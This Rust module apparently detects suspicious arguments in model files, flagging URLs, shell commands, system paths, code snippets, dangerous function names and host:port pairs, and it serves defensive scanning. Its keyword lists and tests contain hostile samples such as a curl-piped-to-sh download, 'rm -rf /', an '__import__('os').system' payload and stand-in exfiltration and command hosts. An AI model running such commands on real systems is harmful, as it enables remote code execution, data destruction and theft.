//! What a text looks like, when it becomes the argument of a call that nobody knows.
//!
//! A sign alone is no finding: model cards are full of addresses, and vocabularies of commands.
//! It says how an unknown call is to be judged.

use std::fmt;

use super::hidden;

/// A set of signs.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(super) struct Signs(u8);

impl Signs {
    /// None.
    pub(super) const NONE: Self = Self(0);
    /// An address with a scheme that leads somewhere else.
    pub(super) const ADDRESS: Self = Self(1);
    /// Words or marks of a shell.
    pub(super) const SHELL: Self = Self(1 << 1);
    /// The path of a file outside of the model.
    pub(super) const PATH: Self = Self(1 << 2);
    /// Statements of a program.
    pub(super) const CODE: Self = Self(1 << 3);
    /// A name between double underscores, or the name of a way to run something.
    pub(super) const INNER_NAME: Self = Self(1 << 4);
    /// A serialised or executable file.
    pub(super) const PAYLOAD: Self = Self(1 << 5);
    /// Items that were not looked at.
    pub(super) const UNSEEN: Self = Self(1 << 6);
    /// The name of a machine, and a port beside it.
    pub(super) const HOST: Self = Self(1 << 7);

    const NAMES: [(Self, &'static str); 8] = [
        (Self::ADDRESS, "an address"),
        (Self::SHELL, "a shell command"),
        (Self::PATH, "a path"),
        (Self::HOST, "a machine and a port"),
        (Self::CODE, "program text"),
        (Self::INNER_NAME, "the name of something inner"),
        (Self::PAYLOAD, "a serialised or executable file"),
        (Self::UNSEEN, "more than was looked at"),
    ];

    /// Returns both.
    pub(super) const fn and(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    /// Returns true if one of `other` is here.
    pub(super) const fn any(self, other: Self) -> bool {
        self.0 & other.0 != 0
    }

    /// Returns true if there is none.
    pub(super) const fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Returns the signs of a text.
    pub(super) fn of_text(text: &str) -> Self {
        let mut signs = Self::NONE;
        if hidden::begins_as_file(text.as_bytes()) {
            signs = signs.and(Self::PAYLOAD);
        }
        if is_inner_name(text) {
            signs = signs.and(Self::INNER_NAME);
        }
        // What a person calls something is short and has neither of these.
        if !text.contains(['/', ' ', ';', '|', '$', '`', '(', '\n', '\\', ':']) {
            return signs;
        }
        if has_address(text) {
            signs = signs.and(Self::ADDRESS);
        }
        if has_shell(text) {
            signs = signs.and(Self::SHELL);
        }
        if is_path(text) {
            signs = signs.and(Self::PATH);
        }
        if has_code(text) {
            signs = signs.and(Self::CODE);
        }
        signs
    }

    /// Returns true if a text and a number beside it are a machine and a port, as sockets take them.
    pub(super) fn is_host(text: &str, port: i64) -> bool {
        // Layers of models have names with dots, too, and numbers beside them.
        const DOMAINS: [&str; 16] = [
            "com", "net", "org", "io", "info", "biz", "xyz", "top", "dev", "app", "ru", "cn",
            "onion", "local", "example", "test",
        ];
        const PORTS: [i64; 14] = [
            21, 22, 23, 25, 53, 80, 443, 445, 1337, 3389, 4444, 8080, 8443, 9001,
        ];
        if !(1..=65_535).contains(&port) {
            return false;
        }
        if text == "localhost" || text.parse::<std::net::Ipv4Addr>().is_ok() {
            return true;
        }
        let mut labels = text.split('.');
        let sound = labels.clone().all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        });
        let last = labels.next_back().unwrap_or_default();
        let known = PORTS.contains(&port) && last.bytes().all(|b| b.is_ascii_lowercase());
        sound && text.contains('.') && (DOMAINS.contains(&last) || known && last.len() <= 6)
    }

    /// Returns true if bytes begin like a serialised, packed or executable file.
    pub(super) fn is_file(head: &[u8]) -> bool {
        const MAGIC: [&[u8]; 12] = [
            b"\x80\x02",
            b"\x80\x03",
            b"\x80\x04",
            b"\x80\x05",
            b"PK\x03\x04",
            b"\x7fELF",
            b"MZ",
            b"\xcf\xfa\xed\xfe",
            b"\x1f\x8b\x08",
            b"#!",
            b"\x93NUMPY",
            b"\xe3\x00\x00\x00",
        ];
        MAGIC.iter().any(|magic| head.starts_with(magic))
    }

    /// Returns the signs of the beginning of some bytes.
    pub(super) fn of_bytes(head: &[u8]) -> Self {
        if Self::is_file(head) {
            return Self::PAYLOAD;
        }
        match std::str::from_utf8(head) {
            Ok(text) => Self::of_text(text),
            Err(_) => Self::NONE,
        }
    }
}

impl fmt::Display for Signs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut first = true;
        for (sign, name) in Self::NAMES {
            if self.any(sign) {
                if !first {
                    f.write_str(", ")?;
                }
                f.write_str(name)?;
                first = false;
            }
        }
        Ok(())
    }
}

fn is_inner_name(text: &str) -> bool {
    const WAYS: [&str; 12] = [
        "eval",
        "exec",
        "system",
        "popen",
        "Popen",
        "compile",
        "import_module",
        "check_output",
        "getattr",
        "setattr",
        "spawn",
        "loads",
    ];
    let dunder = |part: &str| part.len() > 4 && part.starts_with("__") && part.ends_with("__");
    text.len() <= 200
        && text
            .split('.')
            .any(|part| dunder(part) || WAYS.contains(&part))
}

fn has_address(text: &str) -> bool {
    const SCHEMES: [&str; 10] = [
        "http", "https", "ftp", "ftps", "ws", "wss", "ldap", "file", "smb", "ssh",
    ];
    text.match_indices("://").any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let from = before
            .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+')
            .map_or(0, |at| at.saturating_add(1));
        let scheme = before.get(from..).unwrap_or_default().to_ascii_lowercase();
        SCHEMES.contains(&scheme.as_str())
    })
}

// A command where a shell would look for one. Words that are commands and ordinary words count only
// beside a mark that a shell reads.
fn has_shell(text: &str) -> bool {
    const COMMANDS: [&str; 20] = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "cmd.exe",
        "powershell",
        "pwsh",
        "curl",
        "wget",
        "ncat",
        "python",
        "python3",
        "perl",
        "rm",
        "chmod",
        "chown",
        "whoami",
        "uname",
        "sudo",
        "xterm",
    ];
    const WORDS: [&str; 10] = [
        "cmd", "nc", "ruby", "node", "cat", "echo", "touch", "id", "env", "base64",
    ];
    let marked = text.contains(['$', '>', '<', '|', ';', '&', '`', '/', '-']);
    let parts: Vec<&str> = text.split(['|', ';', '&', '`', '(', '\n']).collect();
    parts.iter().any(|part| {
        let mut words = part.split_whitespace();
        let first = words.next().unwrap_or_default();
        let command = first.rsplit('/').next().unwrap_or_default();
        let alone = parts.len() == 1 && words.next().is_none();
        !alone && (COMMANDS.contains(&command) || marked && WORDS.contains(&command))
    })
}

fn is_path(text: &str) -> bool {
    const ROOTS: [&str; 14] = [
        "/etc/", "/bin/", "/usr/", "/tmp/", "/var/", "/home/", "/root/", "/proc/", "/sys/",
        "/dev/", "~/", "../", "..\\", "\\\\",
    ];
    let drive = matches!(text.as_bytes(), [letter, b':', b'\\' | b'/', ..]
        if letter.is_ascii_alphabetic());
    drive || ROOTS.iter().any(|root| text.starts_with(root)) || text.contains("/../")
}

fn has_code(text: &str) -> bool {
    const WORDS: [&str; 14] = [
        "import ",
        "__import__",
        "exec(",
        "eval(",
        "os.system",
        "subprocess",
        "lambda ",
        "def ",
        "open(",
        "compile(",
        "getattr(",
        "globals()",
        "builtins",
        "base64.b64decode",
    ];
    let found = WORDS.iter().filter(|word| text.contains(**word)).count();
    found > 1 || found == 1 && text.contains('(')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_that_say_what_to_do() {
        let cases: [(&str, Signs); 12] = [
            (
                "curl http://x.example/a | sh",
                Signs::ADDRESS.and(Signs::SHELL),
            ),
            ("rm -rf /", Signs::SHELL),
            ("id > /tmp/x", Signs::SHELL),
            ("/etc/passwd", Signs::PATH),
            ("C:\\Windows\\x.dll", Signs::PATH),
            ("../../x", Signs::PATH),
            ("import os; os.system('x')", Signs::CODE),
            ("__import__('os').system('id')", Signs::CODE),
            ("__globals__", Signs::INNER_NAME),
            ("a.__class__.b", Signs::INNER_NAME),
            ("eval", Signs::INNER_NAME),
            ("FTP://h/x", Signs::ADDRESS),
        ];
        for (text, signs) in cases {
            assert_eq!(Signs::of_text(text), signs, "{text}");
        }
    }

    #[test]
    fn ordinary_texts_have_none() {
        for text in [
            "",
            "weight",
            "encoder.layer.0.attention",
            "numpy",
            "the cat sat on the mat; it purred",
            "a sentence (with brackets)",
            "float32",
            "key: value",
            "C:D",
            "import",
            "bash",
            "__",
            "image/png",
        ] {
            assert_eq!(Signs::of_text(text), Signs::NONE, "{text}");
        }
    }

    #[test]
    fn machines_and_ports() {
        for (text, port) in [
            ("exfil-data.attacker.example", 443),
            ("10.0.0.1", 9),
            ("localhost", 65_535),
            ("c2.evil.de", 4444),
            ("x.com", 5),
        ] {
            assert!(Signs::is_host(text, port), "{text}:{port}");
        }
        for (text, port) in [
            ("encoder.layer", 12),
            ("encoder.weights", 80),
            ("x.com", 0),
            ("x.com", 70_000),
            ("feature", 443),
            ("a sentence.com", 443),
            ("0.25", 443),
        ] {
            assert!(!Signs::is_host(text, port), "{text}:{port}");
        }
    }

    #[test]
    fn bytes_that_are_files() {
        assert_eq!(Signs::of_bytes(b"\x80\x04\x95"), Signs::PAYLOAD);
        assert_eq!(Signs::of_bytes(b"PK\x03\x04"), Signs::PAYLOAD);
        assert_eq!(Signs::of_bytes(b"rm -rf /"), Signs::SHELL);
        assert_eq!(Signs::of_bytes(&[0xff, 0xfe, 1, 2]), Signs::NONE);
    }
}
